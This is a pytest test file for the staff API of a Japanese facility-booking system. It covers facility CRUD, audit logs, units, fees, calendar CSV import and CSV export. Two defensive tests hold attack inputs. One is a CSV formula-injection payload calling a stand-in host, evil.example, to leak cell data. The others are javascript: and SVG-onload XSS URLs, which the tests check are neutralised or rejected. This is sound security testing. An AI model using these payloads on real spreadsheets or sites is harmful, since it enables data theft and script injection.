"""The staff API for facilities: CRUD with the operation log, shared areas, frames, fees, equipment,
calendar and its CSV import, the facility CSV export, holidays; precise Japanese errors."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from admin_api import facility_views
from admin_api.app import create_admin_app
from admin_api.context import AdminContext
from civic.booking.services import BookingService
from civic.booking.types import Reserved
from tests.booking.fakes import RecordingAuditLog
from tests.booking.test_admin_api import MANAGER, VIEWER, Tokens
from tests.booking.town import build_town, citizen


@pytest.fixture
async def api(sqlite_db, aiohttp_client):
    town = await build_town(sqlite_db)
    audit = RecordingAuditLog()
    client = await aiohttp_client(create_admin_app(Tokens(), [facility_views.router],
                                                   context=AdminContext(sqlite_db, town.clock, auditor=audit)))
    return client, town, audit


async def test_create_a_facility_with_hours_units_frames_fees_and_equipment(api) -> None:
    client, town, audit = api
    body = {"code": "pool", "name": "町民プール", "category": "pool", "latitude": 35.01, "longitude": 135.02,
            "display_order": 20, "booking_opens_at": "8:30", "weekly_closed_days": [1], "terms": "水泳帽を着用"}
    r = await client.post("/facilities", json=body, headers=VIEWER)
    assert r.status == 403
    r = await client.post("/facilities", json=body, headers=MANAGER)
    facility = await r.json()
    assert r.status == 201 and facility["booking_opens_at"] == "8:30" and facility["latitude"] == 35.01
    fid = facility["id"]
    r = await client.post("/facilities", json=body, headers=MANAGER)
    assert r.status == 409 and (await r.json())["error"]["field"] == "code"
    r = await client.put(f"/facilities/{fid}/hours", json={"weekday": "9:00-21:00", "saturday": "9:00-17:00"},
                         headers=MANAGER)
    assert (await r.json()) == {"weekday": "9:00-21:00", "saturday": "9:00-17:00", "sunday": None, "holiday": None}
    areas = []
    for code in ("east", "west"):
        r = await client.post(f"/facilities/{fid}/areas", json={"code": code, "name": code}, headers=MANAGER)
        areas.append((await r.json())["id"])
    r = await client.post(f"/facilities/{fid}/units", json={"code": "all", "name": "全コース", "area_ids": areas},
                          headers=MANAGER)
    whole = await r.json()
    assert r.status == 201 and whole["area_ids"] == sorted(areas)
    r = await client.post(f"/facilities/{fid}/units", json={"code": "lane", "name": "1コース", "slot_minutes": 50},
                          headers=MANAGER)
    err = (await r.json())["error"]
    assert r.status == 422 and err["field"] == "slot_minutes" and "15分" in err["message"]
    r = await client.post(f"/facilities/{fid}/units", json={"code": "lane", "name": "1コース", "area_ids": [areas[0]]},
                          headers=MANAGER)
    lane = await r.json()
    r = await client.post(f"/facilities/{fid}/frames", json={"time": "9:00-11:00", "label": "午前"}, headers=MANAGER)
    assert r.status == 201 and (await r.json())["time"] == "9:00-11:00"
    r = await client.post(f"/facilities/{fid}/frames", json={"time": "9時から"}, headers=MANAGER)
    assert r.status == 422 and (await r.json())["error"]["field"] == "time"
    r = await client.post(f"/units/{lane['id']}/fees", json={"resident_type": "outside", "per_hour": 600},
                          headers=MANAGER)
    assert r.status == 201 and (await r.json())["time"] == "0:00-24:00"
    r = await client.post(f"/facilities/{fid}/equipment", json={"code": "board", "name": "ビート板", "quantity": 30,
                                                                 "unit_label": "枚", "unit_id": whole["id"]},
                          headers=MANAGER)
    assert r.status == 201
    r = await client.post(f"/facilities/{fid}/purposes", json={"name": "水泳教室"}, headers=MANAGER)
    assert r.status == 201
    r = await client.get(f"/facilities/{fid}", headers=VIEWER)
    detail = await r.json()
    assert [u["code"] for u in detail["units"]] == ["all", "lane"] and detail["equipment"][0]["quantity"] == 30
    assert detail["hours"]["weekday"] == "9:00-21:00" and detail["frames"][0]["label"] == "午前"
    assert detail["purposes"][0]["name"] == "水泳教室" and detail["fees"][0]["per_hour"] == 600
    assert audit.actions() == ["facility.create", "facility.hours", "area.create", "area.create", "unit.create",
                               "unit.create", "frame.create", "fee.create", "equipment.create", "purpose.create"]
    assert all(e.principal.login == "kanri" for e in audit.entries)


async def test_update_logs_before_and_after_and_refuses_nulls(api) -> None:
    client, town, audit = api
    fid = town.facilities["gym"]
    r = await client.patch(f"/facilities/{fid}", json={"cancel_deadline_hours": 24, "citizen_can_cancel": False},
                           headers=MANAGER)
    assert r.status == 200 and (await r.json())["citizen_can_cancel"] is False
    [entry] = audit.entries
    assert entry.before["cancel_deadline_hours"] == 48 and entry.after["cancel_deadline_hours"] == 24
    assert entry.target == f"facility:{fid}"
    r = await client.patch(f"/facilities/{fid}", json={"name": None}, headers=MANAGER)
    assert r.status == 422 and (await r.json())["error"]["field"] == "name"
    r = await client.patch(f"/facilities/{fid}", json={"booking_opens_months": 99}, headers=MANAGER)
    err = (await r.json())["error"]
    assert r.status == 422 and err["field"] == "booking_opens_months" and "24以下" in err["message"]
    r = await client.patch("/facilities/9999", json={"name": "x"}, headers=MANAGER)
    assert r.status == 404 and "9999" in (await r.json())["error"]["message"]


async def test_areas_of_a_unit_with_upcoming_bookings_cannot_change(api) -> None:
    client, town, _ = api
    assert isinstance(await BookingService(town.db, town.clock).reserve(town.request("gym.half-a"), citizen()), Reserved)
    r = await client.get(f"/facilities/{town.facilities['gym']}", headers=VIEWER)
    areas = {a["code"]: a["id"] for a in (await r.json())["areas"]}
    r = await client.patch(f"/units/{town.unit('gym.half-a')}", json={"area_ids": [areas["south"]]}, headers=MANAGER)
    assert r.status == 409 and (await r.json())["error"]["field"] == "area_ids"
    r = await client.patch(f"/units/{town.unit('gym.half-a')}", json={"visibility": "availability"}, headers=MANAGER)
    assert r.status == 200 and (await r.json())["visibility"] == "availability"
    r = await client.delete(f"/units/{town.unit('gym.half-a')}", headers=MANAGER)
    assert r.status == 409
    r = await client.delete(f"/facilities/{town.facilities['gym']}", headers=MANAGER)
    assert r.status == 409
    r = await client.delete(f"/facilities/{town.facilities['hall']}", headers=MANAGER)
    assert r.status == 204
    r = await client.delete(f"/areas/{areas['north']}", headers=MANAGER)
    assert r.status == 409


async def test_calendar_csv_import_and_listing(api) -> None:
    client, town, audit = api
    csv_text = "日付,施設コード,区分,時間帯,理由\n2026-12-20,gym,休館,,ワックスがけ\n2026-12-21,tennis,利用不可,9:00-12:00,教室\n"
    r = await client.post("/calendar-days/import", data=csv_text.encode("utf-8"), headers=MANAGER)
    assert r.status == 201 and await r.json() == {"created": 2, "skipped": 0}
    r = await client.post("/calendar-days/import", data="日付,区分\n2026-99-01,休館\n".encode(), headers=MANAGER)
    err = (await r.json())["error"]
    assert r.status == 422 and err["field"] == "csv" and err["message"].startswith("2行目")
    r = await client.post("/calendar-days/import", data="日付,区分\n2026-12-20,休館\n".encode("cp932"), headers=MANAGER)
    assert r.status == 422 and "UTF-8" in (await r.json())["error"]["message"]
    r = await client.get("/calendar-days", params={"facility_id": town.facilities["gym"], "date_from": "2026-12-10"},
                         headers=VIEWER)
    days = await r.json()
    assert [(d["day"], d["kind"]) for d in days] == [("2026-12-20", "closed")]
    r = await client.post("/calendar-days", json={"day": "2026-12-28", "kind": "closed"}, headers=MANAGER)
    assert r.status == 422 and (await r.json())["error"]["field"] == "facility_id"
    r = await client.post("/calendar-days", json={"day": "2026-08-14", "kind": "holiday", "reason": "町の休日"},
                          headers=MANAGER)
    assert r.status == 201
    r = await client.get("/holidays", params={"year": 2026}, headers=VIEWER)
    holidays = {h["day"]: h for h in await r.json()}
    assert holidays["2026-11-23"]["name"] == "勤労感謝の日" and holidays["2026-08-14"]["source"] == "town"
    assert "calendar.import" in audit.actions()


async def test_facility_csv_export(api) -> None:
    client, _, _ = api
    r = await client.get("/facilities.csv", headers=VIEWER)
    text = await r.text()
    assert r.status == 200 and text.startswith("\ufeff施設コード,施設名") and "テスト体育館" in text
    r = await client.get("/facility-units.csv", headers=VIEWER)
    assert "半面A" in await r.text()
    r = await client.get("/facilities.csv")
    assert r.status == 401


async def test_staff_changes_reach_a_cached_catalogue(api) -> None:
    client, town, _ = api
    svc = BookingService(town.db, town.clock)
    unit = town.unit("gym.half-a")
    assert [s.label for s in await svc.available_frames(unit, date(2026, 12, 5))] == ["午前", "午後", "夜間"]
    r = await client.post(f"/facilities/{town.facilities['gym']}/frames",
                          json={"time": "6:00-8:00", "label": "早朝", "unit_id": unit}, headers=MANAGER)
    assert r.status == 201
    assert [s.label for s in await svc.available_frames(unit, date(2026, 12, 5))] == ["早朝"]  # unit frames win
    r = await client.patch(f"/units/{unit}", json={"name": "半面A（北）"}, headers=MANAGER)
    assert [u.unit_name for u in await svc.find_units("北")] == ["半面A（北）"]


async def test_facility_csv_export_neutralises_formulas(api) -> None:
    """facilities.csv used to pass ``=HYPERLINK(...)`` straight to Excel."""
    client, town, _ = api
    evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    r = await client.patch(f"/facilities/{town.facilities['gym']}", json={"name": evil, "description": "＠SUM(1)"},
                           headers=MANAGER)
    assert r.status == 200
    for path in ("/facilities.csv", "/facility-units.csv"):
        text = (await (await client.get(path, headers=VIEWER)).text())[1:]
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        assert "'" + evil in cells
        assert not [c for c in cells if c and c[0] in "=+@＝＋＠"], path


@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "data:image/svg+xml,<svg onload=alert(1)>",
                                 "http://example.jp/thumb.png"])
async def test_thumbnail_and_guide_urls_must_be_https(api, url: str) -> None:
    client, town, _ = api
    for key in ("thumbnail_url", "guide_url"):
        r = await client.patch(f"/facilities/{town.facilities['gym']}", json={key: url}, headers=MANAGER)
        err = (await r.json())["error"]
        assert r.status == 422 and err["field"] == key and "https://" in err["message"]
    r = await client.patch(f"/facilities/{town.facilities['gym']}", json={"guide_url": "https://example.jp/gym"},
                           headers=MANAGER)
    assert r.status == 200 and (await r.json())["guide_url"] == "https://example.jp/gym"


async def test_unit_kinds_and_the_area_made_for_a_unit_alone(api) -> None:
    client, town, audit = api
    fid = town.facilities["gym"]
    r = await client.post(f"/facilities/{fid}/units", json={"code": "ks", "name": "研修室", "kind": "hall"}, headers=MANAGER)
    err = (await r.json())["error"]
    assert r.status == 422 and err["field"] == "kind" and "room" in err["message"] and "hall" in err["message"]
    r = await client.post(f"/facilities/{fid}/units", json={"code": "ks", "name": "研修室", "kind": "room"}, headers=MANAGER)
    unit = await r.json()
    assert r.status == 201 and unit["kind"] == "room"
    [own_id] = unit["area_ids"]

    async def areas() -> dict[int, tuple[str, int | None]]:
        detail = await (await client.get(f"/facilities/{fid}", headers=VIEWER)).json()
        return {a["id"]: (a["name"], a["own_unit_id"]) for a in detail["areas"]}

    listed = await areas()
    assert listed[own_id] == ("研修室", unit["id"])
    assert sorted(v for v in listed.values() if v[1] is None) == [("北側", None), ("南側", None)]  # staff made these
    # the console sends no area for such a unit: its own area stays, renamed with the unit
    r = await client.patch(f"/units/{unit['id']}", json={"name": "第1研修室", "kind": "court", "area_ids": []}, headers=MANAGER)
    assert r.status == 200 and (await r.json())["area_ids"] == [own_id] and (await r.json())["kind"] == "court"
    assert (await areas())[own_id] == ("第1研修室", unit["id"])
    north = next(i for i, (name, _) in listed.items() if name == "北側")
    r = await client.patch(f"/units/{unit['id']}", json={"area_ids": [north]}, headers=MANAGER)
    assert (await r.json())["area_ids"] == [north]
    r = await client.patch(f"/units/{unit['id']}", json={"area_ids": []}, headers=MANAGER)
    assert (await r.json())["area_ids"] == [own_id]  # the same area again, no second one
    assert len(await areas()) == len(listed)
    # a unit the content loader seeded without areas has one too (named by its code)
    hall = await (await client.get(f"/facilities/{town.facilities['hall']}", headers=VIEWER)).json()
    room = next(u for u in hall["units"] if u["code"] == "room")
    assert [a["own_unit_id"] for a in hall["areas"] if a["id"] in room["area_ids"]] == [room["id"]]
    r = await client.delete(f"/units/{unit['id']}", headers=MANAGER)
    assert r.status == 204 and own_id not in await areas()  # its own area goes with it
